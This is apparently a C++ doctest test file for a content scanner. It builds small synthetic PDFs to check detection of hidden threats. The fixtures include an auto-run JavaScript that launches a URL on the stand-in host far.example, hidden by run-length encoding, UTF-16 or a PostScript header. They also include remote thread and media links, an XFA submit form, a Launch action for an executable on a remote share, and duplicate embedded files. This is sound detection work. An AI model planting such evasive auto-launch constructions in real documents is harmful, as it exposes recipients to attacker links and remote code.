// What PDFs do and carry in the forms that readers of few samples miss. Without a table of places: viewers make one.
#include <doctest/doctest.h>

#include "content/testing.h"

namespace sekisho::content {
namespace {

// A document of one page; `catalog` and `more` are put into it.
std::string pdf(const std::string& catalog, const std::string& more, const std::string& head = "%PDF-1.7") {
  return head + "\n1 0 obj<</Type/Catalog/Pages 2 0 R" + catalog +
         ">>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
         "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n" +
         more + "\ntrailer<</Root 1 0 R/Size 9>>\n%%EOF";
}
std::string stream(const std::string& dictionary, const std::string& bytes) {
  return "<<" + dictionary + "/Length " + std::to_string(bytes.size()) + ">>stream\n" + bytes + "\nendstream endobj\n";
}
std::string run_length(const std::string& bytes) {
  return std::string(1, static_cast<char>(bytes.size() - 1)) + bytes + '\x80';
}
bool holds(const Document& document, std::string_view bytes) {
  return std::any_of(document.parts.begin(), document.parts.end(),
                     [&](const Part& part) { return part.data == bytes; });
}

const std::string script = "app.launchURL('https://far.example/x')";
const std::string open_script = "/OpenAction<</S/JavaScript/JS 5 0 R>>";

}  // namespace

TEST_CASE("scripts and addresses are found however a PDF writes them") {
  std::string wide("\xFF\xFE", 2);
  for (const char c : script) wide += {c, '\0'};
  const std::string form =
      "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><submit target=\"https://far.example/x\"/></xdp:xdp>";
  struct Row {
    std::string says, bytes, trait;
  };
  const Row rows[] = {
      {"a script packed in runs", pdf(open_script, "5 0 obj" + stream("/Filter/RunLengthDecode", run_length(script))),
       "pdf.javascript"},
      {"a script in little-endian UTF-16", pdf(open_script, "5 0 obj" + stream("", wide)), "pdf.javascript"},
      {"a head of PostScript", pdf(open_script, "5 0 obj" + stream("", script), "%!PS-Adobe-3.0 PDF-1.4"),
       "pdf.javascript"},
      {"a thread of another file", pdf("/OpenAction<</S/Thread/D 0/F<</FS/URL/F(https://far.example/x)>>>>", ""),
       "pdf.goto_remote"},
      {"a medium elsewhere", pdf("/Media<</D<</FS/URL/F(https://far.example/x)>>>>", ""), ""},
      {"a form that only sends", pdf("/AcroForm<</Fields[]/XFA 5 0 R>>", "5 0 obj" + stream("", form)), "pdf.xfa"},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    const auto document = read_named(row.bytes, "a.pdf");
    CHECK(document.parts[0].kind == "pdf");
    if (!row.trait.empty()) CHECK(has_trait(document, row.trait));
    CHECK(links_to(document, "https://far.example/x"));
    CHECK_FALSE(links_to(document, "http://ns.adobe.com/xdp/"));
  }
  const auto share = pdf("/OpenAction<</S/Launch/F(\\\\\\\\far.example\\\\s\\\\x.exe)>>", "");
  CHECK(has_trait(read_named(share, "a.pdf"), "shortcut.remote_share"));
}

TEST_CASE("of two files under one name both are read") {
  const std::string names =
      "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.txt)/UF(a.txt)/EF<</F 5 0 R/UF 6 0 R>>>>]>>>>";
  const auto bytes = pdf(names, "5 0 obj" + stream("", "first file") + "6 0 obj" + stream("", "second file"));
  const auto document = read_named(bytes, "a.pdf");
  CHECK(holds(document, "first file"));
  CHECK(holds(document, "second file"));
}

}  // namespace sekisho::content
